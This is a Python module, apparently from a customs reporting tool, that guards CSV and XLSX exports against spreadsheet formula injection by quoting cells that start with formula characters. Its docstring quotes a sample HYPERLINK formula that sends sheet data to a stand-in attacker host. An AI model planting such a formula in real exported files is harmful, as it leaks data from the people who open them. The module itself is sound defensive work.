"""Text from one party is data for another: what a spreadsheet must never read as a formula.

A declarant chooses its lots, sites and descriptions; customs and the holder open the reports in a
spreadsheet. A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to
Excel and LibreOffice (OWASP, "CSV injection"): `=HYPERLINK("http://evil.example/?"&A1,"click")` as a
lot would send the sheet's data away when clicked. Every writer of a spreadsheet-bound file writes
text as text:

- CSV (`csv_cell`): such a cell gets a leading `'`, the spreadsheets' own mark of "this is text"; a
  number (`-5`, `+1.5`) is left as it is. The entries reader takes the mark off again
  (`from_csv_cell`), as a spreadsheet does when one types `'=X`: a rejects file sent back is the file
  that was refused.
- XLSX: the cell's type is text (`present.xlsx_report.text_cell`), so nothing it holds is a formula.
"""

from __future__ import annotations

import re
from typing import Final

__all__ = ["csv_cell", "formula_like", "from_csv_cell"]

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
_NUMBER: Final = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def formula_like(text: str) -> bool:
    """Whether a spreadsheet would read `text` as a formula (OWASP's CSV-injection rule), a number
    written with its sign excepted."""
    return text.startswith(FORMULA_STARTS) and _NUMBER.fullmatch(text) is None


def csv_cell(text: str) -> str:
    """`text` as a CSV cell that no spreadsheet reads as a formula: a leading `'` when it would."""
    return "'" + text if formula_like(text) else text


def from_csv_cell(text: str) -> str:
    """The inverse of `csv_cell` for a cell read from a CSV: `'=X` is the text `=X`."""
    return text[1:] if text.startswith("'") and formula_like(text[1:]) else text
